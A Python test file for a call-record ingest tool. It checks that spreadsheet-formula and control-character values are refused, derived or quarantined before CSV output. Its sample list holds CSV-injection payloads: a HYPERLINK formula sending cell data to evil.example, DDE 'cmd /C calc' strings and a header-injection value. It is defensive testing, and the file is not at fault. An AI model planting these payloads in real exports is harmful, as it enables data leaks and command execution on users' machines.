"""Text a spreadsheet runs as a formula (or holding a control character) never reaches the CSV
files scan writes: an unsafe call_id or ingress is refused at ingest (the call kept, the
call_id derived, the ingress null, counted), a pseudonymised number so written quarantines
its row (security audit of 30 Nov: campaigns.csv's ingresses began =HYPERLINK(, 9,699
spoofed_calls.csv call_ids began =)."""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from callwarden.cdr import canonicalize, ingest, load_cdrs
from callwarden.cdr.mapping import Mapping
from callwarden.cdr.parse import text, unsafe_text

UNSAFE = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=1+2+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    '-HYPERLINK("http://evil.example/")',
    "trunk\r\nX-Evil: 1",
    "a\tb",
    "del\x7f",
    "c1\x85x",  # (NEL at an end is whitespace: trimmed)
]
SAFE = ["s2-0000000001", "IC-CTCC-HN-1", "+aB3/xYz==", "-4611686018427387904", "-", "+86-gw", "é·°"]


def test_the_rule_refuses_formulas_and_control_characters_only() -> None:
    values = pa.array([*UNSAFE, *SAFE, None, ""])
    bad = unsafe_text(text(values))
    assert bad is not None
    assert bad.tolist() == [True] * len(UNSAFE) + [False] * (len(SAFE) + 2)
    assert unsafe_text(text(pa.array(SAFE))) is None
    # a slice is read at its own offset
    assert unsafe_text(text(values).slice(len(UNSAFE), len(SAFE))) is None
    assert unsafe_text(text(values).slice(1, 1)).tolist() == [True]  # type: ignore[union-attr]


def _batch(call_ids: list[str], ingresses: list[str]) -> pa.Table:
    n = len(call_ids)
    return pa.table(
        {
            "call_id": call_ids,
            "start_time": [f"2026-11-28 09:00:{i:02d}" for i in range(n)],
            "caller": ["13800138000"] * n,
            "callee": ["13900139000"] * n,
            "duration_s": ["3"] * n,
            "ingress": ingresses,
        }
    )


def test_an_unsafe_call_id_is_derived_and_an_unsafe_ingress_nulled_the_call_kept() -> None:
    ids = [*UNSAFE, *SAFE]
    ingresses = ["IC-1"] * len(UNSAFE) + UNSAFE[: len(SAFE)]
    result = canonicalize(_batch(ids, ingresses))
    assert result.quarantine.num_rows == 0 and result.table.num_rows == len(ids)
    rows = result.table.to_pylist()
    for i, row in enumerate(rows):
        if i < len(UNSAFE):
            assert row["call_id"] != ids[i] and len(row["call_id"]) == 16  # derived
            assert row["ingress"] == "IC-1"
        else:
            assert row["call_id"] == ids[i]
            assert row["ingress"] is None
    assert result.unsafe == {"call_id": len(UNSAFE), "ingress": len(SAFE)}


def test_a_pseudonymised_number_that_is_a_formula_quarantines_its_row() -> None:
    opaque = Mapping(name="t", numbers="opaque")
    t = _batch(["a", "b"], ["x", "y"]).drop_columns(["caller"])
    t = t.append_column("caller", pa.array(["=cmd|' /C calc'!A0", "9f86d081884c7d65"]))
    result = canonicalize(t, mapping=opaque)
    q = result.quarantine.to_pylist()
    assert [(r["row"], r["reason"], r["detail"]) for r in q] == [
        (0, "invalid_caller", "=cmd|' /C calc'!A0")
    ]
    assert result.table.column("caller").to_pylist() == ["9f86d081884c7d65"]


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_ingest_counts_the_refused_values_and_stores_none(tmp_path: Path, suffix: str) -> None:
    ids = [*UNSAFE, *SAFE]
    t = _batch(ids, ["IC-1"] * len(UNSAFE) + UNSAFE[: len(SAFE)])
    src = tmp_path / f"in{suffix}"
    if suffix == ".csv":
        with src.open("w", newline="", encoding="utf-8") as f:
            w = csv.writer(f)
            w.writerow(t.column_names)
            w.writerows(zip(*(t[c].to_pylist() for c in t.column_names), strict=True))
    else:
        pq.write_table(t, src)
    summary = ingest([src], tmp_path / "out")
    assert summary.rows_kept == len(ids) and summary.rows_quarantined == 0
    assert summary.fields_unsafe == {"call_id": len(UNSAFE), "ingress": len(SAFE)}
    assert "unsafe call_id" in summary.render() and "unsafe ingress" in summary.render()
    stored = load_cdrs(tmp_path / "out").to_pylist()
    kept = [r["call_id"] for r in stored]
    assert len(kept) == len(ids) and unsafe_text(pa.array(kept)) is None
    assert set(SAFE) <= set(kept)
    assert sorted(r["ingress"] for r in stored if r["ingress"] is not None) == ["IC-1"] * len(
        UNSAFE
    )
